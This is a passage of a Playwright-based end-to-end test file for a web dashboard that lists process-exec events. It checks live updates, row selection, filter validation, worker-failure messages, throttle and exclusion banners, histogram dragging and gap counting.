  t.equal(await page.locator('tr.selected').getAttribute('data-seq'), String(event.seq), 'j selects the row');
  publish(makeExit({ seq: 990_030, pid: 8900, execId: 'livesel.8900', namespace: 'livesel', status: 'ok', code: 0, duration: 2 }));
  await page.locator(`tr[data-seq="${event.seq}"] td.result .exit`).waitFor();
  const selected = await page.evaluate(() => Array.from(document.querySelectorAll('tr.selected'), (tr) => [(tr as HTMLElement).dataset.seq, tr.getAttribute('aria-selected')]));
  t.same(selected, [[String(event.seq), 'true']], 'still selected after its exit, and says so to a screen reader');
  t.equal(await page.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset.seq), String(event.seq), 'and still focused');
  await page.keyboard.press('Enter');
  await page.locator('#panel .facts').waitFor();
  t.equal(await page.locator('#panel-title').textContent(), 'sleep 2', 'Enter still opens it');
  t.same(errors, [], 'no page errors');
});

t.test('live with until applied: nothing at or after until is added, and the status says so', async (t) => {
  const until = '2026-11-24T17:00:00.000Z';
  const { page, errors } = await open(t, `/?namespace=liveuntil&live=1&until=${until}`);
  await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('live'));
  await publishUntilShown(page, () => makeEvent({ namespace: 'liveuntil', argv: ['inside'] }));
  const at = makeEvent({ namespace: 'liveuntil', argv: ['at-until'], time: '2026-11-24T17:00:00.000000000Z' });
  const after = makeEvent({ namespace: 'liveuntil', argv: ['after-until'], time: '2026-11-24T17:05:00.000000000Z' });
  const marker = makeEvent({ namespace: 'liveuntil', argv: ['marker'] });
  for (const e of [at, after, marker]) publish(e);
  await page.locator(`tr[data-seq="${marker.seq}"]`).waitFor();
  // A try of `inside` shown later than its wait (a loaded machine) is one more `inside` row: rows are told apart by their command.
  t.same([...new Set(await texts(page, '#events td.argv'))], ['marker', 'inside'], 'only the execs before until are added');
  const seqs = await seqsShown(page);
  t.equal(new Set(seqs).size, seqs.length, 'and each is drawn once');
  t.match(await page.locator('#status').textContent(), `nothing at or after until (${until})`, 'the status says why');
  t.same(errors, [], 'no page errors');
});

t.test('live: rows asked for while a live event is on its way are each drawn once', async (t) => {
  const loaded = Array.from({ length: 60 }, (_, i) => makeEvent({ namespace: 'anchor', argv: ['loaded', String(i)] }));
  for (const e of loaded) publish(e);
  const { page, errors } = await watchedPage(browser.context);
  t.teardown(() => page.close());
  // The interleaving a busy page meets by chance, made certain: the next chunk of rows is asked
  // for (the "more" button) right after the first live event is handed to the worker, before its
  // answer has put the event on top of the table.
  await page.addInitScript(() => {
    const post = Worker.prototype.postMessage;
    let clicked = false;
    Worker.prototype.postMessage = function (this: Worker, message: { type?: string }, ...rest: []) {
      post.call(this, message, ...rest);
      if (message.type !== 'live' || clicked) return;
      clicked = true;
      document.getElementById('more')?.click();
    };
  });
  await page.goto(`${base}/?namespace=anchor&live=1`);
  await page.locator('#events tbody tr').nth(49).waitFor();
  const live = await publishUntilShown(page, () => makeEvent({ namespace: 'anchor', argv: ['live'] }));
  await page.locator('#more').waitFor({ state: 'hidden' });
  const seqs = await seqsShown(page);
  t.equal(new Set(seqs).size, seqs.length, 'no row is drawn twice');
  t.ok(loaded.every((e) => seqs.includes(e.seq)), 'every row loaded is drawn');
  t.equal(seqs[0], live.seq, 'the live event on top');
  t.same(errors, [], 'no page errors');
});

t.test('the page\'s worker failing is said on the page, and one failed chunk of rows does not stop the next', async (t) => {
  const { page } = await watchedPage(browser.context);
  t.teardown(() => page.close());
  await page.route((url) => url.pathname === '/worker.js', (route) => route.fulfill({ status: 404, body: '' }));
  await page.goto(`${base}/?namespace=noworker`);
  await page.locator('#error').waitFor();
  t.match(await page.locator('#error').textContent(), 'page worker: it failed to load; reload the page', 'a worker that does not load');

  for (const i of Array.from({ length: 60 }, (_, n) => n)) publish(makeEvent({ namespace: 'wedge', argv: ['wedge', String(i)] }));
  const { page: again, errors } = await watchedPage(browser.context);
  t.teardown(() => again.close());
  // The worker as served, but its answer to the first rows asked for is an error.
  const failFirstRows = `const rows = new Set();
let failed = false;
self.addEventListener('message', ({ data }) => { if (data.type === 'rows') rows.add(data.id); });
const post = self.postMessage.bind(self);
self.postMessage = (answer) => {
  if (failed || !rows.has(answer.id)) return post(answer);
  failed = true;
  post({ id: answer.id, error: 'rows failed (test)' });
};`;
  await again.route((url) => url.pathname === '/fail-first-rows.js', (route) => route.fulfill({ contentType: 'text/javascript', body: failFirstRows }));
  await again.route((url) => url.pathname === '/worker.js' && url.search === '', (route) => route.fulfill({ contentType: 'text/javascript', body: "import '/fail-first-rows.js';\nimport '/worker.js?as-served';\n" }));
  await again.goto(`${base}/?namespace=wedge`);
  await again.locator('#events tbody tr').nth(49).waitFor();
  await again.locator('#more').click();
  await again.locator('#error').waitFor();
  t.match(await again.locator('#error').textContent(), 'page worker: rows failed (test)', 'the failed chunk is said');
  // Asked again (the button may have been hidden meanwhile, had the end of the table come into view).
  await again.evaluate(() => document.getElementById('more')?.click());
  await again.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 60);
  t.pass('the next chunk is drawn');
  t.same(errors, [], 'no page errors');
});

t.test('limit: an invalid one is refused with a message, a valid one is what the rows and the status use', async (t) => {
  const events = [1, 2, 3].map((i) => makeEvent({ namespace: 'limits', argv: ['n', String(i)] }));
  for (const e of events) publish(e);
  const { page, errors } = await open(t, '/?namespace=limits');
  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 3);
  for (const bad of ['abc', '0', '50000', '1.5', '-2'] as const) {
    await page.fill('input[name="limit"]', bad);
    await page.press('input[name="limit"]', 'Enter');
    await page.locator('#error').waitFor();
    t.match(await page.locator('#error').textContent(), `limit must be a whole number from 1 to 10,000 (not "${bad}")`, `${bad}: refused, saying why`);
    t.equal(await page.locator('#events tbody tr').count(), 3, `${bad}: the rows stay`);
  }
  await page.fill('input[name="limit"]', '2');
  await page.press('input[name="limit"]', 'Enter');
  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 2);
  t.ok(await page.locator('#error').isHidden(), 'a valid limit clears the message');
  t.match(await page.locator('#status').textContent(), 'newest 2 (limit)', 'the status names the limit applied');
  t.same(errors, [], 'no page errors');
});

t.test('the banner counts a throttle episode from either phase at the window\'s edges', async (t) => {
  // Begun before the window, ended in it.
  publish(makeThrottle({ seq: 990_040, phase: 'start', suppressed: 0, pod: 'edge-a', since: '2026-11-26T09:59:00.000000000Z', time: '2026-11-26T09:59:00.000000000Z' }));
  publish(makeThrottle({ seq: 990_041, phase: 'stop', suppressed: 75, pod: 'edge-a', since: '2026-11-26T09:59:00.000000000Z', time: '2026-11-26T10:01:00.000000000Z' }));
  // Begun in the window, still running.
  publish(makeThrottle({ seq: 990_042, phase: 'start', suppressed: 0, pod: 'edge-b', since: '2026-11-27T10:02:00.000000000Z', time: '2026-11-27T10:02:00.000000000Z' }));
  const cases = [
    ['2026-11-26', '75 execs throttled in 1 episode (shop/edge-a)'],
    ['2026-11-27', '1 throttle episode ongoing (its execs are counted when it ends) (shop/edge-b)'],
  ] as const;
  for (const [day, want] of cases) {
    const { page } = await open(t, `/?since=${day}T10:00:00Z&until=${day}T10:10:00Z`);
    await page.locator('#banner').waitFor();
    t.match(await page.locator('#banner').textContent(), want, `${day}: ${want}`);
  }
});

t.test('the rows never wait for the excluded counts; those of an older load are dropped', async (t) => {
  for (const ns of ['slowexcl', 'slowexcl2']) publish(makeEvent({ namespace: ns, argv: [ns] }));
  const { page, errors } = await open(t, '/?namespace=none-yet');
  const held: Route[] = [];
  await page.route('**/api/excluded?*', (route) => void held.push(route));
  const counts = (pod: number) => ({ status: 200, contentType: 'application/json', body: JSON.stringify({ from: '2026-12-06T12:00:00.000Z', to: '2026-12-06T12:05:00.000Z', excluded: { host: 0, namespace: 0, pod, origin: 0 } }) });
  for (const ns of ['slowexcl', 'slowexcl2']) {
    await page.fill('input[name="namespace"]', ns);
    await page.press('input[name="namespace"]', 'Enter');
    await page.waitForFunction((argv) => document.querySelector('#events td.argv')?.textContent === argv, ns);
    t.pass(`${ns}: the rows are drawn while the excluded counts are still on their way`);
  }
  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 1);
  t.equal(held.length >= 2, true, 'both loads asked for their excluded counts');
  const [older, newer] = held.slice(-2) as [Route, Route];
  await older.fulfill(counts(7));
  await newer.fulfill(counts(3));
  await page.locator('#banner').waitFor();
  const text = await page.locator('#banner').textContent();
  t.match(text, '3 events excluded by scope rules', 'the newer load\'s counts in the banner once they come');
  t.notMatch(text, '7 execs', 'the older load\'s never');
  t.same(errors, [], 'no page errors');
});

t.test('live: the excluded counts are asked for again while the view is followed, and no more after', async (t) => {
  publish(makeEvent({ namespace: 'excllive', argv: ['excllive'] }));
  const { page, errors } = await watchedPage(browser.context);
  t.teardown(() => page.close());
  let pod = 2;
  let asked = 0;
  await page.route('**/api/excluded?*', (route) => {
    asked += 1;
    return route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ from: '2026-12-06T12:00:00.000Z', to: '2026-12-06T12:05:00.000Z', excluded: { host: 0, namespace: 0, pod, origin: 0 } }) });
  });
  // The page's timers on a clock the test moves (the rows and the stream go on in real time).
  await page.clock.install();
  await page.goto(`${base}/?namespace=excllive&live=1`);
  await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('live'));
  await page.locator('#banner', { hasText: '2 events excluded by scope rules' }).waitFor();
  pod = 5;
  await page.clock.fastForward(30_000);
  await page.locator('#banner', { hasText: '5 events excluded by scope rules' }).waitFor();
  t.pass('half a minute later, the banner has the counts of the grown window');
  const whileLive = asked;
  await page.uncheck('input[name="live"]');
  await page.clock.fastForward(120_000);
  // A request the page would make is routed at once; give it a moment to arrive.
  await page.waitForTimeout(300);
  t.equal(asked, whileLive, 'not followed any more: not asked again');
  t.same(errors, [], 'no page errors');
});

t.test('the excluded counts are asked for over every event loaded, whatever the toggles show', async (t) => {
  const older = makeEvent({ namespace: 'exclspan', argv: ['older'], time: '2026-12-01T10:00:00.000000000Z' });
  const failed = makeEvent({ namespace: 'exclspan', argv: ['failed'], retval: -2, time: '2026-12-01T10:07:00.000000000Z' });
  for (const e of [older, failed]) publish(e);
  const { page, errors } = await watchedPage(browser.context);
  t.teardown(() => page.close());
  const asked: URL[] = [];
  await page.route('**/api/excluded?*', (route) => {
    asked.push(new URL(route.request().url()));
    return route.fulfill({ status: 404, contentType: 'application/json', body: '{"error":"Not Found","message":"none"}' });
  });
  await page.goto(`${base}/?namespace=exclspan&failures=1`);
  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 1);
  await eventually(() => asked.length === 1, 'the excluded counts to be asked for');
  t.equal(asked[0]?.searchParams.get('since'), '2026-12-01T10:00:00.000Z', 'since the oldest event loaded, not the oldest shown');
  t.same(errors, [], 'no page errors');
});

t.test('a cancelled drag over the histogram zooms nowhere', async (t) => {
  const { page, errors } = await open(t, '/?namespace=hist');
  await page.waitForFunction(() => document.querySelectorAll('#histogram g.bin').length > 0);
  const box = (await page.locator('#histogram').boundingBox()) as { x: number; y: number; width: number; height: number };
  await page.mouse.move(box.x + box.width * 0.2, box.y + box.height / 2);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.4, box.y + box.height / 2, { steps: 4 });
  // The browser takes the pointer over (a scroll, a gesture): pointercancel, not pointerup.
  await page.locator('#histogram').dispatchEvent('pointercancel', { pointerId: 1, pointerType: 'mouse' });
  t.equal(await page.locator('#histogram .selection').getAttribute('width'), '0', 'the selection goes away');
  await page.mouse.move(box.x + box.width * 0.6, box.y + box.height / 2, { steps: 4 });
  t.equal(await page.locator('#histogram .selection').getAttribute('width'), '0', 'moving on draws none');
  await page.mouse.up();
  await page.waitForTimeout(200);
  t.equal(new URL(page.url()).searchParams.get('until'), null, 'and nothing is zoomed into');
  t.same(errors, [], 'no page errors');
});

t.test('a click on the command folds or unfolds it and opens nothing', async (t) => {
  const long = makeEvent({ namespace: 'fold', argv: ['echo', ...Array.from({ length: 200 }, (_, i) => `word${i}`)] });
  publish(long);
  const { page, errors } = await open(t, '/?namespace=fold');
  const cell = page.locator(`tr[data-seq="${long.seq}"] td.argv`);
  await cell.click();
  t.equal(await cell.evaluate((td) => td.classList.contains('expanded')), true, 'the first click unfolds it');
  await page.waitForTimeout(100);
  t.ok(await page.locator('#panel').isHidden(), 'no panel opened');
  t.equal(new URL(page.url()).searchParams.get('open'), null, 'nor in the URL');
  await cell.click();
  t.equal(await cell.evaluate((td) => td.classList.contains('expanded')), false, 'the second folds it again');
  t.same(errors, [], 'no page errors');
});

t.test('live: a gap from the stream is counted once, also after live is turned off and on', async (t) => {
  // A window of its own: a gap matches only since/until. Last in this file: a page that loads no
  // rows counts every gap the ring holds.
  const since = '2026-12-05T00:00:00Z';
  const time = '2026-12-05T01:00:00.000000000Z';
  const { page, errors } = await open(t, `/?since=${since}&live=1`);
  await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('live'));
  await publishUntilShown(page, () => makeEvent({ time, argv: ['gapcount'] }));
  publish(makeGap({ seq: makeEvent().seq, time, from: time, to: time, lost: 7 }));
  await page.locator('#banner').waitFor();
  t.match(await page.locator('#banner').textContent(), '7 events lost in 1 gap', 'the gap, from the stream');
  await page.uncheck('input[name="live"]');
  await page.check('input[name="live"]');
  // The stream is open again once an event published now shows.
  await publishUntilShown(page, () => makeEvent({ time, argv: ['gapcount-again'] }));
  t.match(await page.locator('#banner').textContent(), '7 events lost in 1 gap', 'still once: the stream went on after it');
  t.same(errors, [], 'no page errors');
});
